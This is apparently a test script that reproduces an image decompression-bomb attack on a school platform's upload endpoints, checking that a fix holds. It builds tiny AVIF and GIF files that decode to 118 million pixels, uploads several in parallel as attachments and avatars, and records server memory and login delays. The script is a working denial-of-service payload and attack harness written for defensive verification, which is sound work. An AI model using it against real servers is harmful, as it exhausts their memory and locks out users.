// Attack: small pictures that unpack to giant ones (3 kB to 118 million pixels), sent at once by one student as attachments and
// as own pictures, while another person logs in. Printed on a machine with two cores:
// before: memory of all processes 336 → 6563 MB, afterwards 2291 MB, slowest login 21574 ms
// after:  memory of all processes 389 → 728 MB, afterwards 472 MB, slowest login 329 ms
import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { setTimeout as sleep } from 'node:timers/promises'
import sharp from 'sharp'
import { openTarget } from './target.ts'

sharp.cache(false)
/** 118 million pixels, below what was once allowed. */
const edge = 10_860
const plain = () =>
  sharp({
    create: { width: edge, height: edge, channels: 3, background: '#c87828' },
    limitInputPixels: false,
  })
const avif = await plain().avif({ effort: 0 }).toBuffer()
const gif = await plain().gif({ effort: 1 }).toBuffer()
/** The largest AVIF that is drawn at all. */
const allowed = await plain().resize(4000, 4000).avif({ effort: 0 }).toBuffer()

const target = await openTarget()
const token = await target.login('s01')

/** The server and whatever it has started. */
function memory() {
  const children = readFileSync(`/proc/${target.pid}/task/${target.pid}/children`, 'utf8').trim().split(/\s+/)
  return [String(target.pid), ...children].filter(Boolean).reduce((sum, pid) => sum + residentOf(pid), 0)
}

function residentOf(pid: string) {
  try {
    const resident = readFileSync(`/proc/${pid}/status`, 'utf8').match(/VmRSS:\s+(\d+)/)
    return Math.round(Number(resident?.[1] ?? 0) / 1024)
  } catch {
    return 0
  }
}

/** Uploads a picture and asks for its smaller form. */
async function show(bytes: Buffer, number: number, name: string) {
  const { file } = (await upload('/UploadApi/uploadChunk', bytes, number, name)) as {
    file?: { thumb: string }
  }
  if (file?.thumb) await fetch(file.thumb).then(answer => answer.arrayBuffer())
}

/** Each time other bytes, so that no file is known already. */
function upload(path: string, bytes: Buffer, number: number, name: string) {
  const unique = Buffer.concat([bytes, Buffer.from(String(number))])
  const form = new FormData()
  form.set('fileMd5', createHash('md5').update(unique).digest('hex'))
  form.set('size', String(unique.length))
  form.set('filename', `${number}${name}`)
  form.set('file', new Blob([unique]), `${number}${name}`)
  return target.call(path, token, form)
}

const before = memory()
let most = before
let slowest = 0
let running = true
const watching = (async () => {
  while (running) {
    most = Math.max(most, memory())
    await sleep(20)
  }
})()
const logins = (async () => {
  while (running) {
    const began = performance.now()
    await target.login('teacher1')
    slowest = Math.max(slowest, performance.now() - began)
    await sleep(100)
  }
})()

await Promise.all([
  ...[1, 2, 3, 4, 5].map(number => show(avif, number, 'a.avif')),
  ...[1, 2, 3].map(number => show(gif, number, 'b.gif')),
  ...[6, 7, 8].map(number => show(allowed, number, 'c.avif')),
  ...[1, 2].map(number => upload('/UploadApi/uploadAvatarByCrop', avif, number, 'me.avif')),
])
await sleep(2000)
running = false
await Promise.all([watching, logins])
const afterwards = memory()
await target.stop()
console.log(
  `memory of all processes ${before} → ${most} MB, afterwards ${afterwards} MB, slowest login ${Math.round(slowest)} ms`,
)
